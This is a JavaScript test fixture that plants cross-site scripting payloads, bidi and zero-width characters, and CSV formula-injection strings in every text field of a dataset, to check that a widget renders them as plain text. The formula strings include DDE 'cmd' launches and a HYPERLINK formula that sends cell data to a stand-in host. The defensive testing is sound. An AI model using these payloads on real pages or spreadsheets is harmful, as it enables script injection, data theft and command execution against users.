// Script-injection strings and a dataset that carries them in every text field the widget
// and the host page show, for tests/browser/injection.test.mjs (Node serves the dataset to
// the host page; the test page builds it in the browser). No DOM here.
//
// Each payload, if it ever ran, would bump window.__pwned.

export const PWN = 'window.__pwned=(window.__pwned||0)+1';

export const INJECT = {
  img: `<img src=x onerror="${PWN}">`,
  script: `<script>${PWN}</script>`,
  svg: `"><svg/onload=${PWN}>`,
  iframe: `<iframe src="javascript:${PWN}"></iframe>`,
  jsUrl: `javascript:${PWN}`,
  attr: `' onmouseover='${PWN}' x='`,
  entities: '&lt;b&gt;not bold&lt;/b&gt; &amp; "quotes" \'single\' `back`',
  rtl: '\u202Eexe.txt\u202C RTL override',
  zeroWidth: 'zero\u200Bwidth\u200C\u200D\u2060join\uFEFFer',
  isolate: '\u2066isolate\u2069 \u2067rtl\u2069 \u200Fmark',
  // CSV formula injection: each must come out of toCsv() prefixed with '.
  formulaEq: '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
  formulaPlus: "+cmd|' /C calc'!A0",
  formulaMinus: '-2+3+cmd|\' /C calc\'!A0',
  formulaAt: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  formulaTab: '\t=1+1',
  formulaCr: '\r=1+1',
};

/** Bidi controls and zero-width characters: the canvas strips them; DOM text may keep them. */
export const INVISIBLE = /[\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/g;
export const visibleText = (s) => String(s).replace(INVISIBLE, '');

/** The characters a spreadsheet reads as the start of a formula. */
export const FORMULA_START = /^[=+\-@\t\r]/;

const pick = (ds, kind, n) => ds.indicators.map((x, i) => [x, i]).filter(([x]) => x.kind === kind && !x.repeat_of).slice(0, n).map(([, i]) => i);

/**
 * The shipped dataset with the payloads in labels, English labels, quotes, units, ids,
 * section ids and titles, the dataset title and the source title. Returns
 * { ds, expect } where expect lists, per place, the strings that must show as text.
 */
export function injectionDataset(base) {
  const ds = base;
  const I = INJECT;
  const yoy = pick(ds, 'yoy_change', 8);
  const counts = pick(ds, 'count', 4);
  const pct = pick(ds, 'percent', 1);
  const money = pick(ds, 'money', 1);
  // The steepest decline is named in the headline chart's aria-label.
  const steepest = yoy.reduce((a, b) => (ds.indicators[b].value < ds.indicators[a].value ? b : a), yoy[0]);
  const others = yoy.filter((i) => i !== steepest);
  const labels = [
    [steepest, I.img, I.script],
    [others[0], I.svg, I.iframe],
    [others[1], I.rtl, I.zeroWidth],
    [others[2], I.formulaEq, I.formulaPlus],
    [others[3], I.formulaMinus, I.formulaAt],
    [others[4], I.formulaTab, I.formulaCr],
    [others[5], I.jsUrl, I.attr],
    [others[6], I.entities, I.isolate],
    [pct[0], I.script, I.img],
    [money[0], I.attr, I.jsUrl],
    [counts[0], I.iframe, I.svg],
  ];
  for (const [i, zh, en] of labels) {
    ds.indicators[i].label = zh;
    ds.indicators[i].label_en = en;
  }
  // Quotes: the payload inside the sentence, appended to the report text (spans recomputed).
  const quotes = [
    [steepest, `${I.img}同比下降`],
    [counts[1], `${I.script}共计`],
    [counts[2], `${I.rtl}${I.zeroWidth}`],
    [pct[0], `${I.formulaEq}占比`],
    [money[0], `${I.jsUrl}元`],
  ];
  for (const [i, q] of quotes) {
    ds.indicators[i].quote = q;
    ds.source.text += `\n`;
    const start = Array.from(ds.source.text).length; // spans count code points
    ds.source.text += `${q}。`;
    ds.indicators[i].span = [start, start + Array.from(q).length];
  }
  ds.indicators[counts[0]].unit = I.img;
  ds.indicators[counts[1]].unit = I.formulaAt;
  // Ids show in CSV (and in the host page's data attributes); no spaces, the page splits on them.
  const renameIndicator = (i, id) => {
    const old = ds.indicators[i].id;
    ds.indicators[i].id = id;
    for (const x of ds.indicators) if (x.repeat_of === old) x.repeat_of = id;
  };
  renameIndicator(counts[2], '=1+2');
  renameIndicator(counts[3], 'x"><img/src=x/onerror=window.__pwned=1>');
  // Section titles and one section id.
  const top = ds.sections.filter((s) => !s.parent);
  top[0].title = `${I.script}${top[0].title}`;
  top[0].title_en = I.img;
  top[1].title = I.rtl;
  top[1].title_en = I.formulaEq;
  top[2].title = I.jsUrl;
  top[2].title_en = I.svg;
  const sub = ds.sections.find((s) => s.parent === top[3].id);
  sub.title = I.iframe;
  sub.title_en = I.attr;
  // Rename the last top-level section's id to markup, everywhere it is referenced.
  const oldId = top[top.length - 1].id;
  const newId = '<b>s</b>';
  for (const s of ds.sections) {
    if (s.id === oldId) s.id = newId;
    if (s.parent === oldId) s.parent = newId;
  }
  for (const x of ds.indicators) if (x.section === oldId) x.section = newId;
  ds.title = I.script;
  ds.source.title = `${I.img}报告`;
  return {
    ds,
    expect: {
      labels: labels.map(([i]) => ds.indicators[i].label),
      labelsEn: labels.map(([i]) => ds.indicators[i].label_en),
      quotes: quotes.map(([, q]) => q),
      units: [I.img, I.formulaAt],
      sectionTitles: [top[0].title, top[1].title, top[2].title, sub.title],
      sectionTitlesEn: [top[0].title_en, top[1].title_en, top[2].title_en, sub.title_en],
      steepest: { zh: ds.indicators[steepest].label, en: ds.indicators[steepest].label_en },
      sectionId: newId,
      ids: [ds.indicators[counts[2]].id, ds.indicators[counts[3]].id],
      title: ds.title,
      sourceTitle: ds.source.title,
    },
  };
}
